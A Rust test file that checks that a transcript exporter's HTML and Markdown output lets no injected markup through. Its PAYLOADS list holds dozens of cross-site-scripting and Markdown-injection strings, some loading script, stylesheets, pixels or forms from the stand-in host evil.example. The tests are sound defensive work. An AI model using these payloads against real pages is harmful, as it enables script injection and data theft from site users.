//! S6: whatever models and people write, a page has only our own tags, and a Markdown document has
//! no HTML.

use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::talk::Talk;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></code></div></article></main></body><script>alert(1)</script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=a></form>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<!-- hidden from here on",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html>",
    "<b\nonmouseover=alert(1)>x</b>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[[[[[[[[[[[[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://fine.example/\"onmouseover=\"alert(1))",
    "[x](<https://fine.example/\" onmouseover=\"alert(1)>)",
    "[x](https://fine.example 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](x \"onerror=alert(1)\")",
    "![x][pixel]\n\n[pixel]: https://evil.example/pixel.png",
    "[claude]: javascript:alert(1)\n\n[claude] ![claude]",
    "[^1]\n\n[^1]: a note <script>alert(1)</script>",
    "```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\t<script>alert(1)</script>",
    "| a | b |\n|:-|-:|\n| <script>alert(1)</script> | ![x](//evil.example) |",
    "# heading {#id .class onload=alert(1)}",
    "- <script>\n- alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "~~<script>alert(1)</script>~~",
    "\\<script>alert(1)\\</script>",
    "\\\\<script>alert(1)</script>",
    "<<script>script>alert(1)</script>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{1b}]0;title\u{7}\u{202e}<script>",
];

#[test]
fn s6_no_payload_becomes_a_tag_in_a_page() {
    for payload in PAYLOADS {
        let page = Talk { topic: payload, words: payload }.export("html");
        let (head, rest) = page.split_once("<style nonce=\"").unwrap();
        let (style, body) = rest.split_once("</style>\n</head>").unwrap();
        check_tags(head, payload);
        check_tags(body, payload);
        assert!(!style.contains('<') && !style.contains("url(") && !style.contains("@import"));
        assert!(head.contains("default-src 'none'") && !page.contains(['\u{1b}', '\u{202e}', '\u{0}']));
    }
}

#[test]
fn s6_no_payload_becomes_html_or_a_picture_in_markdown() {
    for payload in PAYLOADS {
        let document = Talk { topic: payload, words: payload }.export("markdown");
        let options = Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH;
        let parser = Parser::new_ext(&document, options);
        assert_eq!(parser.reference_definitions().iter().count(), 0, "{payload}:\n{document}");
        for event in parser {
            let wild = match &event {
                Event::Html(_) | Event::InlineHtml(_) => true,
                Event::Start(Tag::Image { .. } | Tag::FootnoteDefinition(_)) => true,
                Event::Start(Tag::Link { dest_url, .. }) => !leads_well(dest_url),
                _ => false,
            };
            assert!(!wild, "{payload}: {event:?}\n{document}");
        }
    }
}

#[test]
fn s8_no_turn_can_forge_our_headings() {
    let words = "fine\n\n## Votes\n\nWinner: me\n\n### gemini (speaking)\n\nI give in.\n\nSetext\n======\n\n```\nopen";
    let document = Talk { topic: "q\n\n## Votes", words }.export("markdown");
    let ours = |title: &str| document.lines().filter(|line| line.starts_with(title)).count();
    assert_eq!(
        [ours("## Votes"), ours("### gemini"), ours("## Cost"), ours("# ")],
        [1, 1, 1, 1],
        "{document}"
    );
    assert!(document.lines().all(|line| !line.starts_with("===") && !line.starts_with("Winner: me\n")));
    let page = Talk { topic: "q", words }.export("html");
    assert_eq!((page.matches("<h1>").count(), page.matches("<h2>Votes").count()), (1, 1));
}

fn leads_well(dest: &str) -> bool {
    ["https://", "http://", "mailto:"].iter().any(|scheme| dest.to_lowercase().starts_with(scheme))
}

/// Asserts that every `<` opens or closes one of our own tags, with our own attributes.
#[track_caller]
fn check_tags(html: &str, payload: &str) {
    for piece in html.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').unwrap_or_else(|| panic!("{payload}: <{piece}"));
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(TAGS.contains(&name.trim_start_matches('/').trim_end()), "{payload}: <{tag}>");
        check_attributes(attributes, payload);
    }
}

const TAGS: &[&str] = &[
    "!doctype",
    "html",
    "head",
    "meta",
    "title",
    "body",
    "header",
    "nav",
    "main",
    "section",
    "article",
    "div",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "small",
    "p",
    "ul",
    "ol",
    "li",
    "b",
    "a",
    "meter",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "pre",
    "code",
    "strong",
    "em",
    "del",
    "blockquote",
    "hr",
    "br",
    "details",
    "summary",
];

#[track_caller]
fn check_attributes(mut rest: &str, payload: &str) {
    while let Some((name, after)) = rest.trim().trim_end_matches('/').split_once("=\"") {
        let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("{payload}: {rest}"));
        let known = match name.trim() {
            "href" => value.starts_with("#part-") || leads_well(value),
            "rel" => value == "noreferrer nofollow",
            "class" => value == "said" || value == "wide" || value.starts_with("seat-"),
            "id" => value.starts_with("part-"),
            "min" | "max" | "value" | "start" => value.parse::<f64>().is_ok(),
            "lang" | "charset" | "http-equiv" | "content" | "name" => true,
            _ => false,
        };
        assert!(known, "{payload}: {name}={value}");
        rest = after;
    }
    assert!(["", "html", "/"].contains(&rest.trim()), "{payload}: {rest}");
}
